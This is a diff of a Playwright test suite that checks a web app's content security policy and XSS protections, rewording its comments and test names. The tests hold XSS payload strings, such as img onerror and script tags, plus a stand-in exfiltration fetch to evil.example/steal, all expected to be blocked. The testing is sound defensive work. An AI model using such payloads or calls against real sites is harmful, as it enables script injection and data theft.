@@ -1,5 +1,4 @@
-// What a page does not let happen: code that is not the app's, and text of people
-// that is taken for anything but text.
+// Pages run no code but the app's, and show text of people only as text.
 
 import type { Page } from "@playwright/test";
 import { Chat } from "./chat";
@@ -7,14 +6,14 @@ import { everywhere, expect, test } from "./fixtures";
 
 declare global {
   interface Window {
-    /** Directives that something has offended against. */
+    /** Directives that were violated. */
     violations: string[];
     /** Set by code that must not run. */
     ran?: string;
   }
 }
 
-/** Notes from now on, on every page that is loaded, what offends against its policy. */
+/** Records violations of the policy on every page that is loaded from now on. */
 async function watch(page: Page): Promise<void> {
   await page.context().addInitScript(() => {
     window.violations = [];
@@ -28,7 +27,7 @@ async function watch(page: Page): Promise<void> {
 const violations = (page: Page) => page.evaluate(() => window.violations);
 const ran = (page: Page) => page.evaluate(() => window.ran);
 
-/** What people might write. Each one sets window.ran if it is taken for code. */
+/** Hostile texts. Each one sets window.ran if it runs as code. */
 const hostile = [
   `<img src=x onerror="window.ran='img'">`,
   `<script>window.ran='script'</script>`,
@@ -39,7 +38,7 @@ const hostile = [
   "w".repeat(180),
 ];
 
-/** Nothing of what people wrote has become an element, a link or a place wider than the page. */
+/** Checks that no text became an element or a link, or is wider than the page. */
 async function expectText(page: Page): Promise<void> {
   const found = await page.evaluate(() => ({
     elements: [...document.querySelectorAll("img, iframe, object, embed, script:not([src]), svg[onload], a[href^='javascript:']")].map((e) => e.outerHTML),
@@ -49,7 +48,7 @@ async function expectText(page: Page): Promise<void> {
   expect(found).toEqual({ elements: [], sideways: 0, ran: undefined });
 }
 
-test("no page offends against its own policy, or puts secrets into addresses", everywhere, async ({ server, visit }) => {
+test("no page violates its own policy, or puts secrets into URLs", everywhere, async ({ server, visit }) => {
   const page = await visit(server.url);
   const addresses: string[] = [];
   page.on("request", (request) => addresses.push(request.url()));
@@ -64,12 +63,12 @@ test("no page offends against its own policy, or puts secrets into addresses", e
     expect(await violations(page), path).toEqual([]);
   }
   expect(addresses.length).toBeGreaterThan(10);
-  // What is secret has 128 random bits or more.
+  // Secrets have at least 128 random bits.
   expect(addresses.filter((address) => /[\w-]{22}/.test(address.replace(server.url, "")))).toEqual([]);
 });
 
-test("code that gets into the page does not run", everywhere, async ({ server, browser }) => {
-  const context = await browser.newContext(); // not visit: what is refused would be a fault of the page's
+test("injected code does not run", everywhere, async ({ server, browser }) => {
+  const context = await browser.newContext(); // not visit, which fails on violations
   const page = await context.newPage();
   await page.goto(server.url);
   await watch(page);
@@ -78,7 +77,7 @@ test("code that gets into the page does not run", everywhere, async ({ server, b
     try {
       script.textContent = "window.ran = 'inline script'";
     } catch {
-      // Trusted types already forbid that.
+      // Trusted types already forbid this.
       script.append(document.createTextNode("window.ran = 'inline script'"));
     }
     document.body.append(script);
@@ -115,10 +114,10 @@ test("code that gets into the page does not run", everywhere, async ({ server, b
   const refused = await page.evaluate(async () => {
     const names: string[] = [];
     await fetch("https://evil.example/steal").catch(() => names.push("fetch"));
-    await new Promise((resolve) => setTimeout(resolve)); // what was clicked has had its turn
+    await new Promise((resolve) => setTimeout(resolve)); // handlers of the clicks have run
     try {
-      // Now that the debugger, which may do so, is not on the stack.
-      // oxlint-disable-next-line no-eval -- it is what must fail
+      // Not while the debugger is on the stack, which may use eval.
+      // oxlint-disable-next-line no-eval -- it must fail
       (0, eval)("window.ran = 'eval'");
     } catch {
       names.push("eval");
@@ -129,12 +128,12 @@ test("code that gets into the page does not run", everywhere, async ({ server, b
   expect(await ran(page)).toBeUndefined();
   const offended = (await violations(page)).map((text) => text.split(" ")[0]);
   expect(offended).toEqual(expect.arrayContaining(["style-src-elem", "connect-src"]));
-  // Where types are known, a script is refused by its type before the policy for scripts sees it.
+  // In browsers with trusted types, those refuse a script before script-src is checked.
   expect(offended.filter((name) => /^(require-trusted-types-for|script-src)/.test(name!)).length).toBeGreaterThanOrEqual(5);
   await context.close();
 });
 
-test("no bundle makes code of text", async ({ server, request }) => {
+test("no bundle evaluates text as code", async ({ server, request }) => {
   const html = await (await request.get(server.url)).text();
   const scripts = [...html.matchAll(/<script[^>]* src="([^"]+)"/g)].map(([, src]) => src!);
   expect(scripts.length).toBeGreaterThanOrEqual(2);
@@ -145,7 +144,7 @@ test("no bundle makes code of text", async ({ server, request }) => {
   }
 });
 
-test("what people write in the chat is text", async ({ server, visit }) => {
+test("the chat shows text as text", async ({ server, visit }) => {
   const name = hostile[0]!.slice(0, 32);
   const mallory = await new Chat(await visit(`${server.url}/chat/general`)).join(name);
   const ada = await new Chat(await visit(`${server.url}/chat/general`)).join("Ada");
@@ -158,7 +157,7 @@ test("what people write in the chat is text", async ({ server, visit }) => {
   expect(await violations(ada.page)).toEqual([]);
 });
 
-test("what people write in the news and in the game is text", async ({ server, visit }) => {
+test("the news and the game show text as text", async ({ server, visit }) => {
   const page = await visit(`${server.url}/news`);
   await watch(page);
   await page.getByRole("textbox", { name: "Category" }).fill(hostile[0]!);
@@ -177,7 +176,7 @@ test("what people write in the news and in the game is text", async ({ server, v
   expect(await violations(game)).toEqual([]);
 });
 
-test("a room's name in the address is text", async ({ server, visit }) => {
+test("a room's name in the URL is shown as text", async ({ server, visit }) => {
   for (const name of hostile) {
     const page = await visit(`${server.url}/chat/${encodeURIComponent(name.slice(0, 60))}`);
     await watch(page);
